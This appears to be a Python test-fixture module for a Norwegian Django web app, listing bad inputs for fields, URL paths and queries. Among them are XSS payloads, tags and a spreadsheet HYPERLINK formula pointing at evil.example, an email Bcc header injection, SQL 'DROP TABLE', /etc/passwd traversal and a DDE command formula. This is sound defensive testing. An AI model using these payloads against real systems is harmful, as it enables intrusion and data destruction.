"""What people, machines and attackers type: one list for every field, address and request.

Each case has the number of its class of bad input, a short name, and the value. A case is a
question, not a verdict: it is kept and shown unchanged, or refused in words at the field.
"""

from dataclasses import dataclass
from typing import Any

from trepart.forms import is_national_id


@dataclass(frozen=True)
class Case:
    """One value that somebody may type."""

    number: int
    name: str
    value: Any

    def __str__(self) -> str:
        return f"{self.number}-{self.name}"


def _cases(number: int, /, **values: Any) -> list[Case]:
    return [Case(number, name, value) for name, value in values.items()]


def _national_id() -> str:
    """A number of the synthetic kind (month + 80), which nobody has."""
    return next(number for rest in range(100000) if is_national_id(number := f"018190{rest:05}"))


TEXT = [
    *_cases(1, nothing="", spaces="   ", no_break="\u00a0", zero_width="\u200b"),
    *_cases(2, nul="a\x00b", only_nul="\x00"),
    *_cases(3, bell="a\x07b", delete="a\x7fb", c1="a\x85b", noncharacter="a\uffffb"),
    *_cases(5, replaced="bl\ufffdb\ufffdr"),
    *_cases(6, decomposed="A\u030ase pa\u030a a\u030as", composed="Åse på ås"),
    *_cases(7, override="faktura\u202efdp.exe", isolate="\u2066navn\u2069"),
    *_cases(8, family="👩‍👩‍👧‍👦", flag="🇳🇴", joiner="ن‌ن"),
    *_cases(9, stacked="Z" + "\u0315" * 1000),
    *_cases(10, one="Å"),
    *_cases(11, long_word="x" * 100_000),
    *_cases(12, many_lines="linje\n" * 20_000),
    *_cases(
        13,
        script="<script>alert(1)</script>",
        image="<img src=x onerror=alert(1)>",
        svg="<svg/onload=alert(1)>",
        textarea="</textarea><script>alert(1)</script>",
        base='<base href="//evil.example">',
        meta='<meta http-equiv="refresh" content="0;url=//evil.example">',
        style="<style>*{display:none}</style>",
        form='<form action="//evil.example"><input name=csrfmiddlewaretoken>',
        quotes='"\' onmouseover=alert(1) x="',
        entity="&lt;b&gt; &amp; &#0; &nbsp;",
    ),
    *_cases(14, htmx='<div hx-get="/" hx-trigger="load" data-hx-on="x">'),
    *_cases(15, django="{{7*7}} {% debug %}", other="${7*7} #{7*7} %(name)s %s {0}"),
    *_cases(16, link="[x](javascript:alert(1)) [y](data:text/html,x)", nested="> " * 500),
    *_cases(17, url="background:url(file:///etc/passwd)"),
    *_cases(18, sql="'; DROP TABLE projects_project; -- \" /* %_ \\"),
    *_cases(19, regex="(a+)+$" + "a" * 40 + "!"),
    *_cases(20, header="Emne\r\nBcc: x@evil.example", log="\n2026-11-23 INFO sign-in ok"),
    *_cases(21, up="../../etc/passwd", encoded="%2e%2e%2f", windows="C:\\CON.", dot="navn."),
    *_cases(
        22,
        formula='=HYPERLINK("//evil.example")',
        plus="+47 22 22 22 22",
        minus="-5",
        at="@SUM(A1)",
        tab="\t=1",
        wide="＝1+1",
        dde="=cmd|' /C calc'!A0",
    ),
    *_cases(37, norwegian="æøå ÆØÅ Øvre Årdal aa", sami="Kárášjohka áčđŋšŧž", kven="Raisi, Reisa"),
    *_cases(38, apostrophe="O'Brien", double="Bjørn-Åge", particle="von der Lippe", long="N" * 80),
    *_cases(39, national_id=_national_id(), in_text=f"Hun har nummer {_national_id()}."),
    *_cases(40, organisation="974 760 673", vat="NO974760673MVA"),
    *_cases(41, municipality="0301", bilingual="Trondheim – Tråante", two="Herøy"),
    *_cases(43, phone="004722222222"),
    *_cases(44, address="ø@kommune.no", idn="kari@ås.kommune.no", plus_sign="kari+x@kommune.no"),
    *_cases(46, language="no-NO", other_language="se"),
    *_cases(50, care_of="c/o Hansen, H0101, Gnr. 5/12"),
]

NUMBER = [
    *_cases(23, below="-1", zero="0", one="1", int_max="2147483647", int_more="2147483648"),
    *_cases(23, big=str(2**63), huge="1" + "0" * 30, enormous="9" * 5000),
    *_cases(24, nan="NaN", infinity="Infinity", exponent="1e309", negative_zero="-0"),
    *_cases(25, comma="3,5", thin="1\u2009000\u202f000,50", dots="1.000.000", ambiguous="1,000"),
    *_cases(26, arabic="٣٤", wide="３", roman="Ⅳ", superscript="²", fraction="½"),
    *_cases(27, half="2,5", over="6", under="-3"),
    *_cases(36, cents="1234,567", money="-1 250 000 kr"),
]
DATE = [
    *_cases(29, thirty_first="31.02.2026", leap="29.02.2027", short="1.1.26", month="2026-13-01"),
    *_cases(29, zero="00.00.0000", year_1="01.01.0001", year_9999="31.12.9999", year_10000="01.01.10000"),
    *_cases(30, serial="45000", excel="1900-02-29"),
    *_cases(32, spring="28.03.2027 02:30", autumn="25.10.2026 02:30"),
    *_cases(33, week="2026-W53", no_week="2027-W53"),
    *_cases(35, zone="2026-11-23T10:00:00Z", offset="23.11.2026+14:00"),
    *_cases(26, digits="٢٣.١١.٢٠٢٦"),
]
TIME = [*_cases(34, midnight="24:00", point="08.30", spoken="kl. 8", minute="09:60", seconds="09:30:15")]
CHOICE = [
    *_cases(52, unknown="finnes-ikke", list_like="a[]", number="999999999", negative="-1"),
    *_cases(53, staff="is_staff", version="version"),
    *_cases(23, big=str(2**63), huge="1" + "0" * 30),
]
EVERYTHING = [*TEXT, *NUMBER, *DATE, *TIME, *CHOICE]

# What stands in an address where a number, a slug or a key belongs.
IN_PATHS = {
    "int": [0, 2**31, 2**63, 10**30],
    "slug": ["finnes-ikke", "x" * 500],
    "uuid": ["00000000-0000-0000-0000-000000000000"],
}
RAW_PATHS = [
    "/prosjekter/%00/",
    "/prosjekter/%ff%fe/",
    "/prosjekter/../../etc/passwd",
    "/prosjekter/%2e%2e%2f%2e%2e%2fetc/passwd/",
    "/moter/-1/",
    "/moter/1e3/",
    "/moter/%D9%A3/",
    "/rapporter/ikke-en-uuid/",
    "/prosjekter/" + "a" * 9000 + "/",
    "/prosjekter/ny/;jsessionid=1",
    "/PROSJEKTER/",
    "/prosjekter//",
    "/organer/999999999999999999999999999999/",
    "/%0d%0aSet-Cookie:a=b/",
]
IN_QUERIES = [
    *(case.value for case in NUMBER if len(str(case.value)) < 100),
    *(case.value for case in DATE),
    "",
    "-",
    "a\x00b",
    "%",
    "_",
    "\\",
    "'",
    "æ" * 300,
    "x" * 4000,
    "<script>alert(1)</script>",
    "user__password__startswith",
    "?",
    "../../etc/passwd",
    "(a+)+$" + "a" * 40,
]
